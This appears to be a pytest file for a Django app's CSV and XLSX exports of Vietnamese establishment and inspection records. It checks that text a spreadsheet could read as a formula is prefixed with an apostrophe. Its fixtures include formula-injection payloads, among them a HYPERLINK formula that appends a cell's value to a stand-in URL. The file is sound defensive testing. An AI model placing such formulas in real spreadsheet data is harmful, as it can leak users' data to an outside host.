"""A text cell a spreadsheet would read as a formula (=, +, -, @, a tab or a carriage return
first) is written with an apostrophe before it in every export, CSV and XLSX; numbers, dates
and booleans are written as they are."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from django.db import connection
from django.urls import reverse

from exchange.exports.compliance import _xlsx_value
from exchange.models import ExportLog
from localities.models import Inspection, Locality
from plan_tracker.compliance_io import csv_value
from plan_tracker.formulas import as_text
from tests.exchange.helpers import establishment

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Xem")'


def login(client, user):
    client.force_login(user)
    client.cookies["django_language"] = "en"
    return client


@pytest.fixture
def formulas(world):
    """Texts starting with each character a spreadsheet reads as the start of a formula."""
    e1 = establishment(
        "=1+1",
        world.ba_dinh,
        name=FORMULA,
        address="+84 912 345 678",
        permit_number="-2",
    )
    establishment("E-2", world.hoan_kiem, name="@SUM(A1:A9)", address="\tTab đầu")
    Inspection(
        establishment=e1,
        inspected_on=datetime.date(2024, 3, 1),
        team="police",
        outcome="violation",
        fine_vnd=7_500_000,
        violations="-Không đăng ký",
        notes="Số - không phải công thức",
    ).save()
    return world


def raw_export(client, kind, fmt):
    return b"".join(client.get(reverse("export_raw", args=[kind, fmt])).streaming_content)


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84", "'+84"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=b", "a=b"),
        ("Hà Nội", "Hà Nội"),
        ("", ""),
    ],
)
def test_a_text_that_could_be_a_formula_gets_an_apostrophe(text, written):
    assert as_text(text) == written


def test_the_python_csv_writer_puts_the_apostrophe_before_text_only(
    client, personas, formulas, monkeypatch
):
    from exchange.exports import raw

    monkeypatch.setattr(raw, "_copy_csv", lambda *args: None)
    login(client, personas.admin)
    assert raw_export(client, "establishments", "csv").decode("utf-8") == (
        "\ufeffcode,name,line,commune_code,address,permit_number,opened_on,closed_on,in_scope,"
        "commune_name,province_code,province_name,locality_code_given\n"
        '\'=1+1,"\'=HYPERLINK(""http://example.com/?x=""&A1,""Xem"")",accommodation,'
        "00004,'+84 912 345 678,'-2,2019-01-01,,true,Phường Ba Đình,01,Thành phố Hà Nội,\n"
        "E-2,'@SUM(A1:A9),accommodation,00070,'\tTab đầu,,2019-01-01,,true,Phường Hoàn Kiếm,01,"
        "Thành phố Hà Nội,\n"
    )
    # The fine is a number, written as one; the text that only holds a "-" further on is left.
    assert raw_export(client, "inspections", "csv").decode("utf-8").splitlines()[1] == (
        "'=1+1,2024-03-01,police,violation,7500000,'-Không đăng ký,Số - không phải công thức,"
        '"\'=HYPERLINK(""http://example.com/?x=""&A1,""Xem"")",00004,01'
    )


def test_a_carriage_return_first_gets_the_apostrophe_too(client, personas, formulas, copies):
    login(client, personas.admin)
    Inspection.objects.update(notes="\rdòng 2")
    line = raw_export(client, "inspections", "csv").decode("utf-8").split("\n")[1]
    assert ",'\rdòng 2," in line
    # COPY would quote the lone carriage return where csv.writer does not: written in Python.
    assert copies == ([None] if connection.vendor == "postgresql" else [])


@pytest.fixture
def copies(monkeypatch):
    from exchange.exports import raw

    results = []
    copy_csv = raw._copy_csv

    def spy(*args):
        results.append(copy_csv(*args))
        return results[-1]

    monkeypatch.setattr(raw, "_copy_csv", spy)
    return results


@pytest.mark.skipif(
    "connection.vendor != 'postgresql'",
    reason="COPY runs on PostgreSQL only: elsewhere both sides would be the Python writer",
)
@pytest.mark.parametrize("kind", ["establishments", "inspections"])
def test_the_database_puts_the_apostrophe_where_python_does(
    client, personas, formulas, kind, monkeypatch, copies
):
    from exchange.exports import raw

    login(client, personas.admin)
    copied = raw_export(client, kind, "csv")
    assert copies == [ExportLog.objects.get().row_count]  # written by COPY
    assert b"'=1+1," in copied and b"'-" in copied
    monkeypatch.setattr(raw, "_copy_csv", lambda *args: None)
    assert raw_export(client, kind, "csv") == copied


def test_the_raw_xlsx_puts_the_apostrophe_before_text_only(client, personas, formulas):
    login(client, personas.admin)
    content = raw_export(client, "inspections", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    header, row = list(sheet.iter_rows(values_only=True))
    values = dict(zip(header, row, strict=True))
    assert values["establishment_code"] == "'=1+1"
    assert values["establishment_name"] == "'" + FORMULA
    assert values["violations"] == "'-Không đăng ký"
    assert values["notes"] == "Số - không phải công thức"
    assert values["fine_vnd"] == 7_500_000
    assert values["inspected_on"] == datetime.datetime(2024, 3, 1)
    content = raw_export(client, "establishments", "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.value for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells}
    assert {"'@SUM(A1:A9)", "'\tTab đầu", "'+84 912 345 678", "'-2", True} <= texts


@pytest.fixture
def formula_locality(records_for_compliance):
    Locality.objects.filter(pk=records_for_compliance.ba_dinh.pk).update(
        name=FORMULA, short_name=FORMULA
    )
    return records_for_compliance


@pytest.fixture
def records_for_compliance(world):
    e1 = establishment("HN-1", world.ba_dinh)
    Inspection(
        establishment=e1,
        inspected_on=datetime.date(2024, 3, 1),
        team="police",
        outcome="no_violation",
    ).save()
    return world


PARAMS = {"year": 2024, "as_of": "2024-12-31"}


def test_the_compliance_csv_puts_the_apostrophe_before_a_locality_name(
    client, personas, formula_locality
):
    login(client, personas.admin)
    response = client.get(reverse("export_compliance", args=["csv"]), {**PARAMS, "locality": "01"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {r["locality_code"]: r["locality_name"] for r in rows}
    assert names["00004"] == "'" + FORMULA
    ba_dinh = next(r for r in rows if r["locality_code"] == "00004")
    assert ba_dinh["establishments_operating"] == "1"


def test_the_compliance_xlsx_puts_the_apostrophe_before_a_locality_name_and_says_so(
    client, personas, formula_locality
):
    from exchange.exports.compliance import FORMULA_NOTE

    login(client, personas.admin)
    response = client.get(reverse("export_compliance", args=["xlsx"]), PARAMS)
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    provinces, communes, about = workbook.worksheets
    header = [c.value for c in communes[1]]
    rows = [dict(zip(header, row, strict=True)) for row in communes.iter_rows(min_row=2)]
    ba_dinh = next(r for r in rows if r[header[0]].value == "00004")
    assert ba_dinh[header[1]].value == "'" + FORMULA
    assert ba_dinh[header[1]].data_type == "s"
    assert not [c for row in communes.iter_rows() for c in row if c.data_type == "f"]
    # The first figure, after the leading columns and the plan's: a number still.
    assert isinstance(ba_dinh[header[6]].value, int)
    about_text = " ".join(str(c.value) for row in about.iter_rows() for c in row if c.value)
    from django.utils import translation

    with translation.override("vi"):
        assert str(FORMULA_NOTE) in about_text


@pytest.mark.parametrize(
    ("value", "written"),
    [(-5, "-5"), (Decimal("-12.5"), "-12.5"), ("-5", "'-5"), ("=A1", "'=A1"), (None, "")],
)
def test_a_negative_number_stays_a_number_in_the_compliance_csv(value, written):
    assert csv_value(value) == written


def test_a_negative_number_stays_a_number_in_the_compliance_xlsx():
    assert _xlsx_value("cases_growth_pct", Decimal("-12.5")) == -12.5
    assert _xlsx_value("cases_handled", -3) == -3
    assert _xlsx_value("locality_name", "-Xã") == "'-Xã"
